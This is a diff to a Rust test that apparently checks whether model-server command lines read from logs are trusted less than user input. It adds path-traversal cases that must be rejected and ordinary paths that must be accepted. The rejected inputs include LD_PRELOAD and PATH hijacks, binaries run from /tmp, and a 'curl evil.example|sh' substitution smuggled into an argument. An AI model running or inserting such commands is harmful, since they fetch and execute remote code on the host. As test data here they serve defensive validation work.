@@ -201,6 +201,9 @@ fn a_log_is_trusted_less_than_a_user() {
         "LD_PRELOAD=/tmp/x.so vllm serve a/b",
         "PATH=/tmp vllm serve a/b",
         "/tmp/vllm serve a/b",
+        "//var/./tmp/x/llama-server -m a.gguf",
+        "/usr/../tmp/llama-server -m a.gguf",
+        "./sh -c 'vllm serve a/b'",
         "python3 /tmp/evil.py --model a/b",
         "torchrun evil.py",
         "vllm serve $(curl evil.example|sh)",
@@ -209,6 +212,9 @@ fn a_log_is_trusted_less_than_a_user() {
         "vllm serve <(id)",
     ] {
         assert!(Command::read(text, Trust::Log).is_err_and(|_| true) || written(&Command::read(text, Trust::Log).unwrap(), &[]).is_err(), "{text}");
+    }
+    for text in ["./llama-server -m a.gguf", "../llama.cpp/build/bin/llama-server -m a.gguf", "/home/ines/venv/bin/vllm serve a/b"] {
+        assert!(written(&Command::read(text, Trust::Log).unwrap(), &[]).is_ok(), "{text}");
     }
     let plain = Command::read("+ docker run --gpus all -p 8000:8000 vllm/vllm-openai:v0.8.5 --model a/b", Trust::Log).unwrap();
     assert!(written(&plain, &[]).is_ok());
